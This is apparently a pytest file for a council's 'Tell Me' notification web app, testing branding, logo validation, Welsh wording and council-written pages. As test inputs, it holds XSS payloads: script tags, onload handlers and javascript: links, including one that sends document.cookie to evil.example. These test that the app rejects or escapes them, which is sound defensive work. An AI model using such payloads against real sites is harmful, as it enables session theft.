"""The council's own words: its name (in Welsh too), website, logo and contact details from the settings, its privacy
notice, accessibility statement and contact page from files in its own folder, shown on every page; ours where it gave
none; a file or a setting that cannot be used stops the start, saying which and why."""

from __future__ import annotations

import re
from collections.abc import Awaitable, Callable
from pathlib import Path
from typing import Any

import asyncpg
import pytest
from aiohttp.test_utils import TestClient
from pydantic import ValidationError
from redis.asyncio import Redis

from notifier.settings import Settings
from notifier.shell import cli
from notifier.shell.app import create_app
from templates.personalisation import soft_mutation
from tests.conftest import Services
from tests.support.app import settings_for
from tests.support.pages import section, text_of

SVG = (
    '<svg xmlns="http://www.w3.org/2000/svg" width="160" height="40" viewBox="0 0 160 40">'
    '<rect width="160" height="40" fill="#ffffff"/></svg>'
)
PNG = bytes.fromhex(
    '89504e470d0a1a0a0000000d49484452000000010000000108060000001f15c4890000000d4944415478da63f8ffff3f0005fe02fea7'
    '5581840000000049454e44ae426082'
)
COUNCIL = {
    'council_name': 'Trafford Council', 'council_name_cy': 'Cyngor Trafford',
    'council_url': 'https://www.trafford.gov.uk', 'council_url_cy': 'https://www.trafford.gov.uk/cymraeg',
    'council_contact': 'Phone: [0161 912 2000](tel:01619122000)\\nTrafford Town Hall, Talbot Road, M32 0TH',
}  # fmt: skip


@pytest.fixture
def folder(tmp_path: Path) -> Path:
    pages = tmp_path / 'pages'
    pages.mkdir()
    (tmp_path / 'logo.svg').write_text(SVG, encoding='utf-8')
    return pages


@pytest.fixture
def settings(services: Services, folder: Path, request: pytest.FixtureRequest) -> Settings:
    """Trafford's settings, with its pages folder and logo (a test's `settings` mark adds to them)."""
    overrides: dict[str, Any] = {}
    for mark in reversed(list(request.node.iter_markers('settings'))):
        overrides |= mark.kwargs
    here = {'council_pages_dir': str(folder), 'council_logo': str(folder.parent / 'logo.svg')}
    return settings_for(services, **(COUNCIL | here | overrides))


@pytest.fixture
def start(
    aiohttp_client: Any, settings: Settings, pg: asyncpg.Pool, redis: Redis
) -> Callable[[], Awaitable[TestClient]]:
    """Start the app once the test has put the council's files in place (they are read when it starts)."""
    return lambda: aiohttp_client(create_app(settings))


def footer(html: str) -> str:
    return re.search(r'<footer class="govuk-footer">(.*?)</footer>', html, re.S).group(1)


# --- settings a council cannot start with ---------------------------------------------------------------------


def test_a_logo_that_does_not_exist_stops_the_start_naming_it(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    missing = tmp_path / 'trafford-logo.svg'
    with pytest.raises(ValidationError, match=f'{re.escape(str(missing))}: no such file'):
        Settings(council_logo=str(missing))
    monkeypatch.setenv('TELLME_DATABASE_URL', 'postgresql://tellme@db.internal/tellme')
    monkeypatch.setenv('TELLME_COUNCIL_LOGO', str(missing))
    assert cli.main(['web']) == 2
    assert capsys.readouterr().err == (
        f'tellme: TELLME_COUNCIL_LOGO: Value error, {missing}: no such file (give the path of an SVG or PNG file, or '
        'leave it empty)\n'
    )


@pytest.mark.parametrize(
    ('name', 'body', 'message'),
    [
        ('logo.gif', b'GIF89a', 'must be an .svg or .png file'),
        ('logo.png', b'<svg></svg>', 'is not a PNG image'),
        ('logo.svg', b'<html><body>hello</body></html>', 'is not an SVG image'),
        ('logo.svg', b'<svg><script>alert(1)</script></svg>', 'contains a script'),
        ('logo.svg', b'<svg onload="alert(1)"></svg>', 'contains a script'),
        ('logo.svg', b'<svg><a href="javascript:alert(1)"><rect/></a></svg>', 'contains a script'),
    ],
)
def test_a_logo_is_a_png_or_an_svg_picture_and_nothing_else(tmp_path: Path, name: str, body: bytes, message: str):
    (tmp_path / name).write_bytes(body)
    with pytest.raises(ValidationError, match=message):
        Settings(council_logo=str(tmp_path / name))


def test_the_pages_folder_holds_only_pages_we_show(tmp_path: Path) -> None:
    with pytest.raises(ValidationError, match='no such folder'):
        Settings(council_pages_dir=str(tmp_path / 'nowhere'))
    (tmp_path / 'privacy.en.md').write_text('# Privacy')
    with pytest.raises(ValidationError, match=r'privacy\.en\.md: not a page Tell Me shows; the pages are privacy\.md'):
        Settings(council_pages_dir=str(tmp_path))
    (tmp_path / 'privacy.en.md').unlink()
    (tmp_path / 'privacy.md').write_bytes(b'\xff\xfe# not UTF-8')
    with pytest.raises(ValidationError, match=r'privacy\.md: is not UTF-8 text'):
        Settings(council_pages_dir=str(tmp_path))


def test_districts_are_gss_codes_and_the_website_a_web_address() -> None:
    assert Settings(council_districts=' e08000009, E08000009 E08000006').council_district_codes == {
        'E08000009', 'E08000006'
    }  # fmt: skip
    assert Settings().council_district_codes == frozenset()
    with pytest.raises(ValidationError, match='Trafford: not a district GSS code'):
        Settings(council_districts='Trafford')
    with pytest.raises(ValidationError, match='https://'):
        Settings(council_url='javascript:alert(1)')


@pytest.mark.parametrize(
    ('name', 'softened'),
    [
        ('Cyngor Trafford', 'Gyngor Trafford'),
        ('Cyngor Sir Caerdydd', 'Gyngor Sir Caerdydd'),
        ('Cyngor Bwrdeistref Sirol Pen-y-bont ar Ogwr', 'Gyngor Bwrdeistref Sirol Pen-y-bont ar Ogwr'),
        ('Dinas a Sir Abertawe', 'Ddinas a Sir Abertawe'),
        ('Bwrdeistref Sirol Wrecsam', 'Fwrdeistref Sirol Wrecsam'),
        ('Trafford Council', 'Trafford Council'),  # an English name is left as it is
        ('Testshire County Council', 'Testshire County Council'),
    ],
)
def test_a_welsh_council_name_softens_after_gan_and_i(name: str, softened: str) -> None:
    assert soft_mutation(name) == softened


# --- on every page ---------------------------------------------------------------------------------------------


@pytest.mark.parametrize('path', ['/', '/near', '/privacy', '/cookies', '/contact', '/no-such-page', '/staff/sign-in'])
async def test_every_page_names_the_council_and_links_to_its_pages_and_site(client: TestClient, path: str) -> None:
    english = await (await client.get(path, params={'lang': 'en'})).text()
    links = re.findall(r'<a class="govuk-footer__link" href="([^"]+)">([^<]+)</a>', footer(english))
    assert links == [('/privacy', 'Privacy'), ('/cookies', 'Cookies'), ('/accessibility', 'Accessibility statement'),
                     ('/contact', 'Contact'), ('https://www.trafford.gov.uk', 'Trafford Council')]  # fmt: skip
    assert '<img class="tellme-council-logo" src="/council/logo.svg?v=' in english
    assert 'alt="Trafford Council"' in english and 'Tell Me is run by Trafford Council.' in text_of(footer(english))

    welsh = await (await client.get(path, params={'lang': 'cy'})).text()
    links = re.findall(r'<a class="govuk-footer__link" href="([^"]+)">([^<]+)</a>', footer(welsh))
    assert links == [('/privacy', 'Preifatrwydd'), ('/cookies', 'Cwcis'), ('/accessibility', 'Datganiad hygyrchedd'),
                     ('/contact', 'Cysylltu'), ('https://www.trafford.gov.uk/cymraeg', 'Cyngor Trafford')]  # fmt: skip
    # "gan" softens the name that follows: Cyngor → Gyngor
    assert 'alt="Cyngor Trafford"' in welsh and 'Mae Tell Me yn cael ei redeg gan Gyngor Trafford.' in text_of(welsh)


async def test_the_logo_is_served_from_here_as_the_picture_it_is(client: TestClient) -> None:
    page = await (await client.get('/')).text()
    src = re.search(r'src="(/council/logo\.svg\?v=[0-9a-f]{12})"', page).group(1)
    logo = await client.get(src)
    assert logo.status == 200 and logo.content_type == 'image/svg+xml' and await logo.text() == SVG
    assert "script-src 'self' 'nonce-" in logo.headers['Content-Security-Policy']
    assert (await client.get('/council/logo.png')).status == 404


@pytest.mark.settings(council_logo='', council_url='', council_url_cy='', council_name_cy='')
async def test_without_a_logo_the_header_names_the_council_in_words(client: TestClient) -> None:
    page = await (await client.get('/', params={'lang': 'cy'})).text()
    assert '<a href="/" class="govuk-generic-header__homepage-link">Trafford Council</a>' in page
    assert 'https://www.trafford.gov.uk' not in footer(page) and '/contact' in footer(page)
    assert (await client.get('/council/logo.svg')).status == 404


async def test_a_png_logo_is_served_as_a_png(
    aiohttp_client: Any, services: Services, tmp_path: Path, pg: asyncpg.Pool, redis: Redis
) -> None:
    (tmp_path / 'logo.png').write_bytes(PNG)
    client = await aiohttp_client(create_app(settings_for(services, council_logo=str(tmp_path / 'logo.png'))))
    src = re.search(r'src="(/council/logo\.png\?v=[0-9a-f]{12})"', await (await client.get('/')).text()).group(1)
    served = await client.get(src)
    assert served.content_type == 'image/png' and await served.read() == PNG


# --- the council's pages -----------------------------------------------------------------------------------------


async def test_the_councils_own_pages_are_shown_in_its_words_in_each_language(start: Any, folder: Path) -> None:
    (folder / 'privacy.md').write_text(
        '# How {council} uses your data\n\n{council} keeps message contents for {retention}.\n\n'
        '## Your rights\n\n- to see your data\n- to have it deleted\n\n'
        'Write to our [data protection officer](mailto:dpo@trafford.gov.uk).\n'
    )
    (folder / 'privacy.cy.md').write_text(
        '# Sut mae {council} yn defnyddio eich data\n\nMae {council} yn cadw cynnwys negeseuon am {retention}.\n'
    )
    client = await start()
    english = await (await client.get('/privacy', params={'lang': 'en'})).text()
    assert '<title>How Trafford Council uses your data – Tell Me – Trafford Council</title>' in english
    assert '<h1 class="govuk-heading-l">How Trafford Council uses your data</h1>' in english
    assert '<p class="govuk-body">Trafford Council keeps message contents for 7 days.</p>' in english
    assert '<ul class="govuk-list govuk-list--bullet"><li>to see your data</li>' in english
    assert '<a class="govuk-link" href="mailto:dpo@trafford.gov.uk">data protection officer</a>' in english
    assert 'GOV.UK Notify sends the messages for us' not in english, 'not ours as well'
    welsh = await (await client.get('/privacy', params={'lang': 'cy'})).text()
    assert '<h1 class="govuk-heading-l">Sut mae Cyngor Trafford yn defnyddio eich data</h1>' in welsh
    assert 'Mae Cyngor Trafford yn cadw cynnwys negeseuon am 7 diwrnod.' in welsh


async def test_a_script_or_a_javascript_link_in_a_council_page_is_shown_as_text_or_dropped(
    start: Any, folder: Path
) -> None:
    (folder / 'accessibility.md').write_text(
        '# Accessibility statement\n\n<script>alert("stolen")</script>\n\n'
        '[Report a problem](javascript:fetch("https://evil.example/"+document.cookie))\n\n'
        '[Email us](JAVASCRIPT:alert%281%29) or <a href="javascript:alert(1)">call us</a>\n'
    )
    client = await start()
    page = await (await client.get('/accessibility')).text()
    main = re.search(r'<main.*?</main>', page, re.S).group(0)
    assert '<script' not in main and 'href="javascript' not in main.lower()
    assert '&lt;script&gt;alert(&#34;stolen&#34;)&lt;/script&gt;' in main, 'shown as the text it is'
    assert 'Email us or &lt;a href=&#34;javascript:alert(1)&#34;&gt;call us&lt;/a&gt;' in main, 'the link dropped'
    assert len(re.findall(r'<script', page)) == 2, "only the page's own two scripts"


async def test_a_page_written_in_english_only_is_shown_to_welsh_readers_marked_as_english(
    start: Any, folder: Path
) -> None:
    (folder / 'accessibility.md').write_text('# Accessibility statement for Tell Me\n\nWe tested it.\n')
    client = await start()
    welsh = await (await client.get('/accessibility', params={'lang': 'cy'})).text()
    assert '<h1 class="govuk-heading-l">Datganiad hygyrchedd</h1>' in welsh
    assert 'Mae’r dudalen hon ar gael yn Saesneg yn unig.' in welsh
    assert re.search(r'<div lang="en">\s*<h2 class="govuk-heading-m">Accessibility statement for Tell Me</h2>', welsh)


async def test_without_the_councils_pages_ours_are_shown(client: TestClient) -> None:
    privacy = text_of(await (await client.get('/privacy', params={'lang': 'en'})).text())
    assert 'Privacy notice' in privacy and 'Trafford Council is the data controller for Tell Me.' in privacy
    assert 'We delete the contents of the messages we send you from Tell Me after 7 days.' in privacy
    preifatrwydd = text_of(await (await client.get('/privacy', params={'lang': 'cy'})).text())
    assert 'Cyngor Trafford yw’r rheolydd data ar gyfer Tell Me.' in preifatrwydd

    statement = await (await client.get('/accessibility', params={'lang': 'en'})).text()
    assert '<h1 class="govuk-heading-l">Accessibility statement for Tell Me</h1>' in statement
    assert 'This accessibility statement applies to Tell Me at http://tellme.test, the service Trafford' in statement
    assert text_of(statement).count('[To complete:') == 4, 'it says what only the council can complete'
    assert '<a class="govuk-link" href="/contact">contact us</a>' in statement
    datganiad = await (await client.get('/accessibility', params={'lang': 'cy'})).text()
    assert text_of(datganiad).count('[I’w gwblhau:') == 4


async def test_the_contact_page_is_made_from_the_settings_unless_the_council_wrote_one(
    start: Any, folder: Path
) -> None:
    client = await start()
    page = await (await client.get('/contact')).text()
    assert '<h1 class="govuk-heading-l">Contact us</h1>' in page
    assert section(page, 'contact-details') == 'Phone: 0161 912 2000 Trafford Town Hall, Talbot Road, M32 0TH'
    assert '<a class="govuk-link" href="tel:01619122000">0161 912 2000</a><br>Trafford Town Hall' in page
    assert '<a class="govuk-link" href="https://www.trafford.gov.uk">Trafford Council website</a>' in page
    welsh = await (await client.get('/contact', params={'lang': 'cy'})).text()
    assert 'Dyma fanylion cyswllt Cyngor Trafford.' in welsh and 'Gwefan Cyngor Trafford' in welsh

    (folder / 'contact.md').write_text('# Contact Trafford\n\nRing [0161 912 2000](tel:+44 161 912 2000).\n')
    client = await start()
    page = await (await client.get('/contact')).text()
    assert '<h1 class="govuk-heading-l">Contact Trafford</h1>' in page and 'contact-details' not in page


@pytest.mark.settings(council_contact='', council_url='')
async def test_a_contact_page_with_nothing_to_say_says_so(client: TestClient) -> None:
    page = text_of(await (await client.get('/contact')).text())
    assert 'Trafford Council has not put its contact details here yet.' in page
